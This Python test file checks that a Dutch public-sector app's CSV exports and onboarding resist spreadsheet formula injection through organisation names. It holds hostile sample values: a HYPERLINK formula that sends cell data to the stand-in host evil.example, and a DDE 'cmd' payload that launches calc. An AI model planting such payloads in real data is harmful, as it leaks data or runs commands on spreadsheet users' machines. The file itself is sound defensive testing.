"""Spreadsheet formula injection (OWASP "CSV injection") through an organisation's name.

An organisation named ``=HYPERLINK("http://evil.example/?x="&A1,"Klik")`` would reach
the officers' CSV downloads (the participation monitor, the privacy report and its
events, the municipal monitor; both dialects; the portal serves the same CSV) and run
when opened in Excel. Onboarding refuses such a name (``vir org add``, ``vir keyholder
org add``), naming the field; a name stored before that check is written with a leading
``'`` in every CSV, so it shows as text. Numbers stay numbers.
"""

from __future__ import annotations

import copy
import csv
import datetime as dt
import io
import json
from collections.abc import Iterator
from pathlib import Path

import pytest
from support.clirun import run_vir
from support.inapp import InApp, in_app
from support.instore import T0, UTRECHT_ORGS, fresh_store, template
from support.world import UTRECHT

from vir.crypto import pki
from vir.domain.errors import InputError
from vir.domain.organisations import Category, Oin, Organisation, Role
from vir.reports.officer import monitor_csv, privacy_csv
from vir.reports.participation import participation_csv
from vir.services.onboarding import register_certificate, register_organisation
from vir.store.organisations import add_organisation

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"Klik")'
SAMPLE = Path(__file__).parents[2] / "docs" / "privacy" / "samples" / "privacy-report.json"
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def _cells(text: str) -> list[str]:
    text = text.lstrip("\ufeff")
    delimiter = ";" if text.count(";") > text.count(",") else ","
    return [cell for row in csv.reader(io.StringIO(text), delimiter=delimiter) for cell in row]


def _runnable(cells: list[str]) -> list[str]:
    """The cells a spreadsheet would take for a formula."""
    plain = {"-"}
    return [
        c
        for c in cells
        if c.startswith(FORMULA_START)
        and c not in plain
        and not c.lstrip("-").replace(",", "").replace(".", "").isdigit()
    ]


def _renamed(value: object, name: str) -> object:
    if isinstance(value, dict):
        return {k: name if k == "name" else _renamed(v, name) for k, v in value.items()}
    if isinstance(value, list):
        return [_renamed(v, name) for v in value]
    return value


@pytest.mark.parametrize("name", [HOSTILE, "+31 6 1234", "-2+3+cmd|' /C calc'!A0", "@SUM(A1)"])
@pytest.mark.parametrize("dialect", ["nl", "data"])
def test_the_privacy_report_csv_runs_no_name(name: str, dialect: str) -> None:
    report = _renamed(json.loads(SAMPLE.read_text(encoding="utf-8")), name)
    assert isinstance(report, dict)
    text = privacy_csv(copy.deepcopy(report), dialect)  # type: ignore[arg-type]
    cells = _cells(text)
    assert "'" + name in cells
    assert _runnable(cells) == []


@pytest.fixture
def officer(tmp_path: Path) -> Iterator[tuple[InApp, str]]:
    """The app, with an organisation in Utrecht whose name was stored before onboarding
    checked names, and Utrecht's privacy officer's certificate."""
    with in_app(tmp_path) as app:
        db = app.app.state.services.db
        for org in (UTRECHT, *UTRECHT_ORGS):
            register_organisation(db, org, T0)
        stored = Organisation(
            Oin("00000009000000000280"), HOSTILE, Category.EDUCATION, "Utrecht", "convenant"
        )
        with db.write() as session:
            add_organisation(session, stored, T0)
        ca = pki.create_ca("test CA", T0)
        issued = pki.issue_client_certificate(
            ca,
            str(UTRECHT.oin),
            UTRECHT.name,
            T0 - dt.timedelta(hours=1),
            T0 + dt.timedelta(days=30),
        )
        register_certificate(db, issued.cert, T0, Role.PRIVACY_OFFICER)
        yield app, pki.cert_pem(issued.cert).decode("ascii")


@pytest.mark.parametrize("dialect", ["nl", "data"])
@pytest.mark.parametrize(
    "path",
    [
        "/v1/privacy/reports/participation",
        "/v1/privacy/reports/events",
        "/v1/privacy/reports/monitor",
    ],
)
def test_a_stored_formula_name_is_inert_in_the_api_csv(
    officer: tuple[InApp, str], dialect: str, path: str
) -> None:
    app, pem = officer
    reply = app.request(
        "GET",
        path,
        params={"from": "2026-11-01", "to": "2026-12-01", "format": "csv", "dialect": dialect},
        certificate=pem,
    )
    assert reply.status_code == 200, reply.text
    cells = _cells(reply.text)
    assert _runnable(cells) == []
    if path.endswith("participation"):
        assert any(cell.startswith("'" + HOSTILE) for cell in cells), cells


def test_the_monitor_csv_keeps_numbers_and_dashes() -> None:
    from vir.reports.officer import _csv

    text = _csv([["a", 1, -2, 1.5, "-", "-3,5", "=1+1", "@x", "\tx", "-x"]], "nl")
    assert _cells(text) == ["a", "1", "-2", "1,5", "-", "-3,5", "'=1+1", "'@x", "'\tx", "'-x"]
    text = _csv([["a", 1, -2, "=1+1"]])
    assert _cells(text) == ["a", "1", "-2", "'=1+1"]
    assert callable(monitor_csv) and callable(participation_csv)


@pytest.mark.parametrize(
    "name",
    [HOSTILE, "+31 6", "-x", "@SUM(A1)", "\tSchool", "School\r\nB", "School\x00", " School", ""],
)
def test_onboarding_refuses_a_name_a_spreadsheet_runs_or_that_holds_controls(
    tmp_path: Path, name: str
) -> None:
    org = Organisation(Oin("00000009000000000298"), name, Category.EDUCATION, "Utrecht", "c")
    with fresh_store(template(tmp_path), tmp_path / "db.sqlite") as store:
        with pytest.raises(InputError) as refused:
            register_organisation(store.db, org, T0)
        assert refused.value.field == "name"
        ran = run_vir(
            store.db,
            "org",
            "add",
            "--oin",
            "00000009000000000297",
            f"--name={name}",
            "--category",
            "education",
            "--region",
            "Utrecht",
            "--convenant",
            "c",
            "--dev-dir",
            str(tmp_path / "nowhere"),
        )
        assert ran.code != 0 and ran.out == ""
        assert ran.err.startswith("vir: name: ") and ran.err.count("\n") == 1, ran.err
        assert name.strip() == "" or name.strip() not in ran.err


def test_onboarding_keeps_ordinary_names(tmp_path: Path) -> None:
    with fresh_store(template(tmp_path), tmp_path / "db.sqlite") as store:
        for i, name in enumerate(["Jeugdzorg 't Kompas", "GGD Regio-Utrecht", "O'Brien & Zn."]):
            org = Organisation(
                Oin(f"000000090000000002{90 + i}"), name, Category.EDUCATION, "Utrecht", "c"
            )
            register_organisation(store.db, org, T0)
